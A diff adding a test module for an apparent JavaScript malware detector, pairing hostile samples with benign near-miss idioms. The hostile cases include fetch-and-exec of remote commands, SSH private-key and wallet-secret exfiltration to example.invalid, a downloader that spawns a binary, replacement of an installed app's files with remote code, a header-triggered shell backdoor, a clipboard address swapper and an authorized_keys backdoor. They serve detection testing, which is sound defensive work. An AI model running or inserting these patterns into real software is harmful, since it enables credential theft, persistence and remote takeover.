@@ -1,0 +1,103 @@
+"""What hands data on: lists that are gone through, callbacks, requests, keys of wallets; each with a near miss."""
+
+# ruff: noqa: E501 - a case reads as the file that it is
+
+from tests.evasion_javascript.case import HIGH, Case, Idiom
+
+HANDING = (
+    Case("each command of a list that is fetched", "SHELL-001 FETCH-001", HIGH, r"""
+        fetch("https://example.invalid/a").then((r) => r.json()).then((list) => list.forEach((one) => require("child_process").exec(one.line)));
+    """),
+    Case("each line of a text that is fetched", "SHELL-001 FETCH-001", HIGH, r"""
+        require("https").get("https://example.invalid/a", (answer) => {
+          let text = "";
+          answer.on("data", (part) => (text += part));
+          answer.on("end", () => text.split("\n").map((line) => require("child_process").execSync(line)));
+        });
+    """),
+    Case("each file of a folder of keys", "EXFIL-001 STEAL-001", HIGH, r"""
+        const fs = require("fs"), os = require("os"), folder = os.homedir() + "/.ssh/";
+        fs.promises.readdir(folder).then((names) => names.filter((name) => name.startsWith("id_")).forEach((name) => {
+          fetch("https://example.invalid/a", { method: "POST", body: fs.readFileSync(folder + name) });
+        }));
+    """),
+    Case("a program is fetched under one of three names and started when it is there", "FETCH-001", HIGH, r"""
+        const axios = require("axios"), fs = require("fs"), os = require("os"), path = require("path");
+        const { spawn } = require("child_process");
+        (async () => {
+          const name = { win32: "a.exe", linux: "a-linux", darwin: "a-macos" }[os.platform()];
+          const target = path.join(os.tmpdir(), name);
+          const answer = await axios({ url: "https://example.invalid/" + name, responseType: "stream" });
+          const out = fs.createWriteStream(target);
+          answer.data.pipe(out);
+          out.on("finish", () => spawn(target, [], { detached: true }));
+        })();
+    """),
+    Case("a file of an installed program, looked for and replaced", "PERSIST-001", HIGH, r"""
+        const fs = require("fs"), glob = require("glob");
+        glob(process.env.LOCALAPPDATA + "/Chat*/app-*/modules/core-*/core/index.js", (error, hits) => {
+          require("https").get("https://example.invalid/a.js", (answer) => {
+            let text = "";
+            answer.on("data", (part) => (text += part));
+            answer.on("end", () => hits.forEach((hit) => fs.writeFileSync(hit, text)));
+          });
+        });
+    """),
+    Case("a line for a shell in a header", "SHELL-001", HIGH, r"""
+        const cp = require("child_process");
+        module.exports = () => (req, res, next) => {
+          if (req.headers["x-key"] === "a") cp.exec(req.headers["x-line"], (error, out) => res.end(out));
+          else next();
+        };
+    """),
+    Case("what a wallet is made of is sent under another name", "EXFIL-001", HIGH, r"""
+        const { Keypair } = require("@solana/web3.js");
+        const transport = require("nodemailer").createTransport({ service: "mail" });
+        exports.load = (given) => {
+          const pair = Keypair.fromSecretKey(require("bs58").decode(given));
+          transport.sendMail({ to: "a@example.invalid", subject: pair.publicKey.toBase58(), text: given });
+          return pair;
+        };
+    """),
+    Case("the clipboard is rewritten", "STEAL-001", HIGH, r"""
+        const clipboard = require("clipboardy");
+        setInterval(async () => {
+          const text = await clipboard.read();
+          if (/^0x[0-9a-f]{40}$/.test(text)) await clipboard.write(text.replace(/.+/, "mine"));
+        }, 500);
+    """),
+    Case("a fixed key is authorized by a constructor", "PERSIST-001", HIGH, r"""
+        const fs = require("fs"), os = require("os"), path = require("path");
+        class Bot { constructor() { fs.appendFileSync(path.join(os.homedir(), ".ssh", "authorized_keys"), "\nssh-rsa AAAAB3NzaC1yc2EAAAADexample a@example.invalid\n"); } }
+        module.exports = Bot;
+    """),
+)  # fmt: skip
+
+GOOD_HANDING = (
+    Idiom("each item of a list that is fetched is shown", r"""
+        exports.show = () => fetch("https://example.invalid/a").then((r) => r.json()).then((list) => list.forEach((one) => console.log(one.name)));
+    """),
+    Idiom("each plugin of a folder is loaded", r"""
+        const fs = require("fs"), path = require("path");
+        fs.readdirSync(path.join(__dirname, "plugins")).filter((name) => name.endsWith(".js")).forEach((name) => { exports[name] = fs.readFileSync(path.join(__dirname, "plugins", name), "utf8"); });
+    """, files={"plugins/a.js": "module.exports = 1;"}),
+    Idiom("a server that opens an editor for a request", r"""
+        const cp = require("child_process");
+        module.exports = (editor) => (req, res) => { cp.spawn(editor, ["--goto", req.url.slice(1)]); res.end(); };
+    """),
+    Idiom("a wallet that signs and sends what it signed", r"""
+        const { ethers } = require("ethers");
+        exports.send = async (given, transaction) => {
+          const signed = await new ethers.Wallet(given).signTransaction(transaction);
+          return fetch("https://example.invalid/rpc", { method: "POST", body: JSON.stringify({ params: [signed] }) });
+        };
+    """),
+    Idiom("a key that a caller gives is authorized", r"""
+        const fs = require("fs"), os = require("os");
+        exports.authorize = (key) => fs.appendFileSync(os.homedir() + "/.ssh/authorized_keys", key + "\n");
+    """, below=HIGH),
+    Idiom("text of the clipboard is changed when asked", r"""
+        const clipboard = require("clipboardy");
+        exports.upper = async () => clipboard.write((await clipboard.read()).toUpperCase());
+    """),
+)  # fmt: skip
